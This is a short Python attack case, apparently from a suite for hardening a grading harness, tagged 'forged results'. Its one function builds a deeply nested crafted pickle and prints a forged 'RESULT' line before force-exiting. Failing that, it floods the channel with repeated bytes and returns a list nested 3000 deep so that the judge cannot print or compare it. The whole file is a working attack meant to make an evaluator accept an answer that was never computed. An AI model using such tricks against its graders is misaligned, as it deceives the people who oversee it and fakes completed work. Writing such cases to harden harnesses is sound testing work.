"""Answers with lists within lists, deeper than a judge can print or compare."""
# family: forged results

import base64
import os
import pickle
import sys

from attack import attempted, send_bytes


def algorithm(question):
    depth = 3000
    pickled = b"\x80\x04" + b"]" * depth + b"a" * (depth - 1) + b"."
    wrapped = b"\x80\x04(G\x00\x00\x00\x00\x00\x00\x00\x00" + pickled[2:-1] + b"K*t."
    attempted()
    assert pickle.HIGHEST_PROTOCOL
    try:
        os.write(1, b"RESULT " + base64.b64encode(wrapped) + b"\n")
        os._exit(0)
    except OSError:
        pass
    body = b"t\x02\x00\x00\x00s\x02\x00\x00\x00ok" + b"l\x01\x00\x00\x00" * 100_000
    send_bytes(body)
    sys.setrecursionlimit(10**6)
    value = []
    for _ in range(depth):
        value = [value]
    return value
